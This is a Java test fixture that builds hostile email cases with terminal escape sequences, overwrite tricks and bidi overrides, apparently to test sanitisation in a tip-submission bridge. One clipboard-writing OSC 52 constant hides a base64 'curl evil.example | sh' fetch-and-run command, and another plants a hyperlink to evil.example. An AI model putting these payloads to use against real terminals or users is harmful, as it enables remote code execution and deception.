// SPDX-License-Identifier: AGPL-3.0-or-later
package org.tipbridge.bridge.hostile;

import static org.tipbridge.bridge.hostile.GeneratedCase.mail;
import static org.tipbridge.bridge.hostile.RecordCheck.attachments;
import static org.tipbridge.bridge.hostile.RecordCheck.bodyContains;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;

/**
 * ANSI CSI, OSC, DCS and C1 escape sequences and terminal tricks (backspace, carriage return) in
 * subjects, bodies and file names, raw and encoded. The test checks every record's text.
 */
final class EscapeCases {
    static final String CSI = "\u001b[2J\u001b[1;31mRED\u001b[0m";
    static final String OSC_TITLE = "\u001b]0;owned terminal\u0007";
    static final String OSC_CLIPBOARD = "\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007";
    static final String OSC_LINK = "\u001b]8;;https://evil.example/\u001b\\click\u001b]8;;\u001b\\";
    static final String DCS = "\u001bP1$r0m\u001b\\";
    static final String C1 = "\u009b2J\u009d0;title\u009c";

    private EscapeCases() {}

    static List<HostileCase> all() {
        List<HostileCase> out = new ArrayList<>();
        out.add(subject("escape-subject-csi-clear-screen", CSI));
        out.add(subject("escape-subject-osc-title", OSC_TITLE + "normal subject"));
        out.add(subject("escape-subject-encoded-word-csi", "=?utf-8?q?=1B[2J=1B]0;x=07visible?="));
        out.add(body("escape-body-csi-colours", "before " + CSI + " after"));
        out.add(body("escape-body-osc52-clipboard-write", OSC_CLIPBOARD + "tip text"));
        out.add(body("escape-body-osc8-hyperlink", "see " + OSC_LINK));
        out.add(body("escape-body-dcs-request", DCS + "tip text"));
        out.add(body("escape-body-c1-controls", C1 + "tip text"));
        out.add(body("escape-body-backspace-overwrite", "safe\b\b\b\bEVIL text"));
        out.add(body("escape-body-carriage-return-overwrite", "harmless line\rEVIL overwrite"));
        out.add(body("escape-body-bidi-override", "amount: \u202e0001\u202c USD"));
        out.add(encodedBody(
                "escape-body-quoted-printable-esc", "quoted-printable", "=1B[2J=1B]52;c;eA=3D=3D=07qp tip\n"));
        out.add(encodedBody(
                "escape-body-base64-esc",
                "base64",
                Base64.getEncoder().encodeToString((CSI + OSC_TITLE + " base64 tip").getBytes(StandardCharsets.UTF_8))
                        + "\n"));
        out.add(mail(
                "escape-body-html-with-escapes",
                Expected.tip(),
                () -> Mails.message(
                        "escape-body-html-with-escapes",
                        "html",
                        Mails.entity(
                                "Content-Type: text/html; charset=utf-8\n",
                                "<p>" + CSI + "&#27;[2J&#x1b;]0;t&#7;html tip</p>\n")),
                bodyContains("html tip")));
        out.add(file("escape-filename-csi", CSI + ".txt"));
        out.add(file("escape-filename-osc", OSC_TITLE + "name.txt"));
        out.add(mail(
                "escape-encrypted-subject-and-body",
                Expected.tip(),
                () -> Mails.encrypted(
                        "escape-encrypted-subject-and-body",
                        "...",
                        "Subject: " + CSI + OSC_TITLE
                                + "\nContent-Type: text/plain; charset=utf-8; protected-headers=\"v1\"\n\n"
                                + OSC_CLIPBOARD + C1 + " encrypted tip\n"),
                bodyContains("encrypted tip")));
        return out;
    }

    private static HostileCase subject(String name, String subject) {
        return mail(name, Expected.tip(), () -> Mails.message(name, subject, Mails.text("body")));
    }

    private static HostileCase body(String name, String body) {
        return mail(name, Expected.tip(), () -> Mails.plain(name, "escapes", body));
    }

    private static HostileCase encodedBody(String name, String cte, String body) {
        return mail(
                name,
                Expected.tip(),
                () -> Mails.message(
                        name,
                        "encoded escapes",
                        Mails.entity(
                                "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: " + cte + "\n",
                                body)),
                bodyContains("tip"));
    }

    private static HostileCase file(String name, String fileName) {
        return mail(
                name,
                Expected.tip(),
                () -> Mails.message(
                        name,
                        "file",
                        Mails.multipart(
                                "mixed",
                                "esc",
                                List.of(
                                        Mails.text("see the file"),
                                        Mails.attachment("text/plain", fileName, "content")))),
                attachments(1));
    }
}
